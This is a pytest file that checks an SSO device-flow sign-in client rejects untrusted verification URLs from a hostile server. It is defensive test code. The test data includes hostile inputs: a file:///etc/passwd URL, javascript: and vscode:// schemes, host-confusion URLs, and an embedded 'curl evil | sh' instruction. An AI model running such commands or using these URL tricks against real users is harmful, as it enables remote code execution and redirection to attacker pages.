"""What the sign-in flow does with a server's answers it must not trust."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from unit.client.hostile_server import hostile_server
from vestibule.client import sso_login
from vestibule.client.aws_config import SsoSession
from vestibule.client.errors import UntrustedAnswer


@pytest.fixture(autouse=True)
def computer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "config"))
    for name in ("AWS_PROFILE", "AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_SSO", "AWS_ENDPOINT_URL_SSO_OIDC"):
        monkeypatch.delenv(name, raising=False)
    opened: list[str] = []
    monkeypatch.setattr(sso_login, "open_url", opened.append)  # the one seam: no real browser here
    return opened


class Polled(Exception):
    pass


def _stop_polling(seconds: float) -> None:
    raise Polled


def _answers(uri: str, complete: str) -> dict[str, object]:
    return {"/client/register": {"clientId": "c", "clientSecret": "s", "clientIdIssuedAt": int(time.time()),
                                 "clientSecretExpiresAt": int(time.time()) + 86400},
            "/device_authorization": {"deviceCode": "d", "userCode": "ABCD-EFGH", "verificationUri": uri,
                                      "verificationUriComplete": complete, "expiresIn": 600, "interval": 1}}


@pytest.mark.parametrize(("uri", "complete"), [
    ("{base}/device", "file:///etc/passwd"),
    ("{base}/device", "vscode://evil/run"),
    ("{base}/device", "javascript:alert(1)"),
    ("https://evil.example/device", "https://evil.example/device?user_code=ABCD-EFGH"),
    ("{base}/device", "http://127.0.0.1.evil.example/device"),
    ("{base}/device", "http://evil.example\\@127.0.0.1/device"),
    ("{base}/device", "http://127.0.0.1\\.evil.example/device"),
    ("{base}/device", "http://user@127.0.0.1/device"),
    ("{base}/device", "{base}/device?user_code=X\n\nnow run: curl evil | sh"),
])
def test_device_flow_refuses_a_verification_page_elsewhere(computer: list[str], uri: str, complete: str,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    said: list[str] = []
    answers: dict[str, object] = {}
    with hostile_server(answers) as base:
        answers.update(_answers(uri.format(base=base), complete.format(base=base)))
        session = SsoSession("s", f"{base}/portal/d-1234567890/start", "us-east-1")
        flow = sso_login.SignIn(session, said.append, sleep=_stop_polling)
        with pytest.raises(UntrustedAnswer, match=re.escape("which is not an http(s) page of 127.0.0.1")) as refused:
            flow.device_code(open_browser=True)
    assert refused.value.exit_code == 9
    assert computer == [] and said == [], "nothing opened or shown"


def test_device_flow_opens_a_page_of_the_start_urls_host(computer: list[str]) -> None:
    said: list[str] = []
    with hostile_server({}) as other_port:
        answers = _answers(f"{other_port}/device", f"{other_port}/device?user_code=ABCD-EFGH")
        with hostile_server(answers) as base:
            flow = sso_login.SignIn(SsoSession("s", f"{base}/portal/d-1234567890/start", "us-east-1"),
                                    said.append, sleep=_stop_polling)
            with pytest.raises(Polled):
                flow.device_code(open_browser=True)
    assert computer == [f"{other_port}/device?user_code=ABCD-EFGH"]
    assert "ABCD-EFGH" in said[0]
